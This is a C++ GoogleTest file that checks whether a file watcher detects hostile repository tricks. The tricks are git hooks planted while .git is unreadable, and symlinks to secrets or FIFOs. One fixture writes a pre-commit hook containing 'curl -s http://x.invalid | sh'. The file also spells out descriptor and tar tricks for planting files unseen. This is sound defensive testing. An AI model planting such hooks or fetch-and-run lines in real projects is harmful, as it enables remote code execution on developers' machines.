// What a hostile repository or another local user can do to the watcher: plant a file while its folder
// is closed to the watcher, and point links at things that must never be read. Modes mean nothing to
// root, so as root the watcher and the attacker both run as nobody.

#include "WatcherHarness.h"

#include <atomic>
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <thread>
#include <unistd.h>

namespace tw::test {
namespace {

using namespace std::chrono_literals;
namespace fs = std::filesystem;

bool canDropPrivileges()
{
    return geteuid() != 0 || runProcess({"setpriv", "--version"}).exitCode == 0;
}

// Runs a shell command line as nobody when the tests run as root, as is otherwise.
void asUser(const std::string& command, const fs::path& cwd)
{
    std::vector<std::string> argv{"/bin/sh", "-c", command};
    if (geteuid() == 0)
        argv.insert(argv.begin(), {"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"});
    const auto result = runProcess(argv, cwd);
    ASSERT_EQ(result.exitCode, 0) << command << "\n" << result.out << result.err;
}

TEST(TwwatchHostileTree, HookPlantedWhileItsFolderIsClosedIsReported)
{
    if (!canDropPrivileges())
        GTEST_SKIP() << "running as root and cannot drop privileges: modes would not apply";
    struct Case
    {
        const char* name;
        const char* plant; // run in the watched root; leaves .git closed (mode 000)
        const char* hook;
    };
    const Case cases[] = {
        // A folder descriptor opened beforehand still reaches hooks/ once .git is closed.
        {"through a folder descriptor",
         "mkdir -p .git/hooks && exec 3<.git/hooks && chmod 000 .git && "
         "printf '#!/bin/sh\\ncurl -s http://x.invalid | sh\\n' >/proc/self/fd/3/pre-commit",
         ".git/hooks/pre-commit"},
        // tar sets folder modes last: the hook is written into an open .git that then closes.
        {"by extracting an archive",
         "mkdir -p ../src/.git/hooks && printf '#!/bin/sh\\n' >../src/.git/hooks/post-checkout && "
         "tar -cf ../a.tar -C ../src . && tar -rf ../a.tar -C ../src --no-recursion --mode=000 ./.git && "
         "tar -xpf ../a.tar",
         ".git/hooks/post-checkout"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        TempDir base;
        const fs::path root = base / "repo";
        fs::create_directories(root);
        if (geteuid() == 0)
            shell("chown -R 65534:65534 . && chmod 755 .", base.path());
        Watcher watcher({.asNobody = true});
        ASSERT_TRUE(watcher.watch({root}));

        asUser(c.plant, root);
        const std::string hook = (root / c.hook).string();
        // The failed read is said out loud: the hook's, or its folder's if that closed before the watcher
        // got to it (unless the watcher was quick enough to read the hook first).
        const auto aboutHook = [&](const WatchLine& l) {
            return hook.rfind(l.path, 0) == 0 && (l.path == hook || hook[l.path.size()] == '/');
        };
        ASSERT_TRUE(watcher.waitForLine([&](const WatchLine& l) {
            return aboutHook(l) && (l.rule == matchEverything || l.rule == "permission_denied");
        }));
        for (const auto& l : watcher.lines()) {
            if (aboutHook(l) && l.rule != matchEverything)
                EXPECT_TRUE(l.rule == "permission_denied" && l.severity == "warning") << l.raw;
        }
        asUser("chmod 755 .git", root);
        EXPECT_TRUE(watcher.sees(hook));
    }
}

TEST(TwwatchHostileTree, LinksAreReportedAsLinksAndNeverRead)
{
    WatcherSetup setup;
    setup.rules.emplace_back("content.yar", "rule target_content { meta: severity = \"critical\" "
                                            "strings: $m = \"TARGET-CONTENT\" condition: $m }\n");
    TempDir root, outside;
    writeFile(outside / "secret", "TARGET-CONTENT\n");
    ASSERT_EQ(::mkfifo((outside / "fifo").c_str(), 0600), 0);
    // A writer blocked in open() is released the moment anything opens the FIFO for reading.
    std::atomic<bool> writerReleased{false};
    std::thread writer([&] {
        const int fd = ::open((outside / "fifo").c_str(), O_WRONLY | O_CLOEXEC);
        writerReleased = true;
        if (fd >= 0)
            ::close(fd);
    });
    Watcher watcher(setup);
    ASSERT_TRUE(watcher.watch({root.path()}));

    writeFile(root / "plain", "TARGET-CONTENT\n");
    fs::create_symlink(outside / "secret", root / "to-secret");
    fs::create_symlink(outside / "fifo", root / "to-fifo");
    const std::set<std::string> links{(root / "to-secret").string(), (root / "to-fifo").string()};
    // Path rules still see the links.
    EXPECT_TRUE(watcher.waitForPaths(links));
    EXPECT_TRUE(watcher.waitForPaths({(root / "plain").string()}, 20s, "target_content"));
    EXPECT_EQ(watcher.reported("target_content"), std::set<std::string>{(root / "plain").string()});
    EXPECT_FALSE(waitUntil([&] { return writerReleased.load(); }, 300ms)) << "the FIFO was opened";

    const int reader = ::open((outside / "fifo").c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    writer.join();
    ::close(reader);
}

} // namespace
} // namespace tw::test
